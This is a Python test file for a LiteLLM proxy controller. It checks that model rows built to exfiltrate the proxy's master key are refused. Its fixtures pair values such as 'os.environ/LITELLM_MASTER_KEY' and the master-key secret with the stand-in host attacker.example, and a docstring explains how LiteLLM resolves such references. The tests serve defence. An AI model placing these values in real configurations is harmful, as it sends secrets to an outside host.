"""Issue 12 items 1 and 2 on the real LiteLLM proxy (and the fake): the rows an attacker who edits only
models.json or a ModelActivation wants LiteLLM to hold are never written.

LiteLLM 1.108.7 resolves any string of a DB model's litellm_params that starts with ``os.environ/`` from
its own environment (``ProxyConfig._resolve_db_litellm_param``); a row with ``model:
os.environ/LITELLM_MASTER_KEY`` and the attacker's ``api_base`` would send the master key there.
"""

from __future__ import annotations

import hashlib
import json
import logging
import uuid

import anyio
import httpx
import pytest

from adapters.litellm.client import REFUSED_KEY_TEXT
from adapters.litellm.executor import LiteLLMExecutor
from adapters.litellm.observer import LiteLLMObserver
from catalog_core.commands import CreateLiteLLMModel, LiteralKey
from catalog_core.events import CommandCompleted, Event, LiteLLMUnreachable, Outcome
from catalog_core.jsonval import Json
from catalog_core.plan import all_records
from catalog_core.reasons import Reason
from catalog_core.registry import route_id
from catalog_core.values import Source
from contracts import eventlog as wire
from tests.adapters.litellm.conftest import Peer
from tests.adapters.litellm.harness import Harness

pytestmark = pytest.mark.anyio

ATTACKER = "https://attacker.example/v1"


def _transport(peer: Peer) -> httpx.AsyncBaseTransport | None:
    return httpx.MockTransport(peer.fake.handle) if peer.fake is not None else None


def _sent(h: Harness) -> str:
    return json.dumps(
        [[c.model_name, c.litellm_params.value()] for c in h.executed if hasattr(c, "model_name")]
    )


async def test_an_activation_reading_litellms_environment_is_never_written(peer: Peer):
    h = Harness.build(peer)
    exfil = h.add_activation(
        "exfil", model="os.environ/LITELLM_MASTER_KEY", customLlmProvider="openai", apiBase=ATTACKER
    )
    sneaky = h.add_activation("sneaky", model="openai/gpt-4o", apiBase="  OS.ENVIRON/ATTACKER_URL")
    fine = h.add_activation("fine", model="openai/mct-fine", apiBase="https://api.example.com/v1")
    await h.start()
    rows = await h.rows()
    assert set(rows) == {route_id(Source.ACTIVATION, fine)}  # the rest is published
    assert route_id(Source.ACTIVATION, exfil) not in rows and route_id(Source.ACTIVATION, sneaky) not in rows
    assert "environ" not in _sent(h).lower()
    assert not any("environ" in json.dumps(r).lower() for r in rows.values())
    reasons = {r.as_json()["name"]: r.as_json()["reason"] for r in all_records(h.state)}
    assert reasons[exfil] == reasons[sneaky] == "EnvReferenceRejected"


async def test_the_master_key_secret_is_never_sent_even_if_labelled(peer: Peer):
    h = Harness.build(peer)
    h.add_secret("litellm-masterkey-secret", {"LITELLM_MASTER_KEY": peer.master_key})
    ref = {"name": "litellm-masterkey-secret", "key": "LITELLM_MASTER_KEY"}
    steal = h.add_external("steal", model="openai/mct-steal", apiBase=ATTACKER, apiKeySecretRef=ref)
    steal2 = h.add_activation("steal2", model="openai/mct-steal2", apiBase=ATTACKER, apiKeySecretRef=ref)
    await h.start()
    rows = await h.rows()
    assert route_id(Source.EXTERNAL, steal) not in rows
    assert route_id(Source.ACTIVATION, steal2) not in rows
    assert not any(c.api_key is not None for c in h.executed if hasattr(c, "api_key"))
    reasons = {r.as_json()["name"]: r.as_json()["reason"] for r in all_records(h.state)}
    assert reasons[steal] == reasons[steal2] == "SecretNotAllowed"


async def test_the_executor_refuses_such_rows_whatever_produced_them(peer: Peer):
    """Defense in depth behind the core: a command built by hand (a bug, a doctored event log) with an
    os.environ/ value or the master key as its api key is refused before LiteLLM sees it."""
    h = Harness.build(peer)
    name = peer.name("handmade")
    rid = route_id(Source.EXTERNAL, name)
    info = Json.of({"ai_appliance_owner": "model-catalog"})
    env = CreateLiteLLMModel(
        rid, name, Json.of({"model": "os.environ/LITELLM_MASTER_KEY", "api_base": ATTACKER}), info, None
    )
    master = CreateLiteLLMModel(
        rid, name, Json.of({"model": "openai/x", "api_base": ATTACKER}), info, LiteralKey(peer.master_key)
    )
    for command, reason in ((env, Reason.ENV_REFERENCE_REJECTED), (master, Reason.SECRET_NOT_ALLOWED)):
        (done,) = await h.executor.execute(command)
        assert (done.outcome, done.reason) == (Outcome.TERMINAL, reason)
        assert peer.master_key not in done.detail
    assert rid not in await h.rows()


async def test_litellms_answer_to_a_wrong_master_key_is_never_kept(
    peer: Peer, caplog: pytest.LogCaptureFixture
):
    """LiteLLM 1.84.0 (the appliance's) answers a key it refuses with the key's last four characters and
    its SHA-256. That text reached the log, the event log and, on a refused write, routes.json. Run on
    the fake and the real proxy of both releases (the ``peer`` fixture)."""
    wrong = f"sk-wrong-{uuid.uuid4().hex}"
    digest, tail = hashlib.sha256(wrong.encode()).hexdigest(), f"...{wrong[-4:]}"
    async with httpx.AsyncClient(base_url=peer.base_url, transport=_transport(peer)) as raw:
        said = (await raw.get("/model/info", headers={"authorization": f"Bearer {wrong}"})).text
    assert (digest in said and tail in said) is peer.probed.quotes_refused_key  # 1.84.0 does
    quoted = [digest, tail, wrong, "Invalid proxy server token", "Authentication Error"]

    h = Harness.build(peer)
    name = h.add_external("keyed", model="openai/mct-keyed", apiBase="https://api.example.com/v1")
    await h.start()
    assert route_id(Source.EXTERNAL, name) in await h.rows()
    # the master key changes under the controller (rotated in LiteLLM, or a wrong one deployed)
    client = peer.client(master_key=wrong)
    observer = LiteLLMObserver(client, resync_seconds=30.0)
    executor = LiteLLMExecutor(client, h.vault, observer.shared)
    send, receive = anyio.create_memory_object_stream[Event](10)
    caplog.set_level(logging.DEBUG)
    await observer.poll_once(send)
    events: list[Event] = [receive.receive_nowait()]
    h.add_external(
        "keyed", model="openai/mct-keyed", apiBase="https://api.example.com/v1", contextWindow=4096
    )
    added = h.add_external("added", model="openai/mct-added", apiBase="https://api.example.com/v1")
    h.fold(h.listings())
    executed = []
    for _ in range(5):  # ticks until nothing more is planned
        commands = await h.tick_litellm()
        for command in commands:
            done = list(await executor.execute(command))
            h.fold(done)
            events += done
        executed += commands
        h.now += 1.0
    assert {type(c).__name__ for c in executed} >= {"CreateLiteLLMModel", "UpdateLiteLLMModel"}
    outcomes = [e for e in events if isinstance(e, CommandCompleted)]
    assert outcomes and all(e.reason == Reason.LITELLM_UNAUTHORIZED for e in outcomes)
    assert isinstance(events[0], LiteLLMUnreachable) and events[0].reason == "unauthorized"

    places = {
        "the log": caplog.text,
        "the event log": "\n".join(wire.dumps(wire.unstructure_event(e)).decode() for e in events),
        "routes.json": json.dumps([r.as_json() for r in all_records(h.state)]),
    }
    for where, text in places.items():
        for secret in quoted:
            assert secret not in text, f"{secret!r} in {where}"
    refused = next(r.as_json() for r in all_records(h.state) if r.name == added)
    # refused twice in a row: reported, and retried (the key is mended in LiteLLM, not in the input)
    assert refused["reason"] == "LiteLLMUnauthorized" and REFUSED_KEY_TEXT[401] in refused["message"]
    assert refused["message"].endswith("(retried with backoff until it succeeds)")
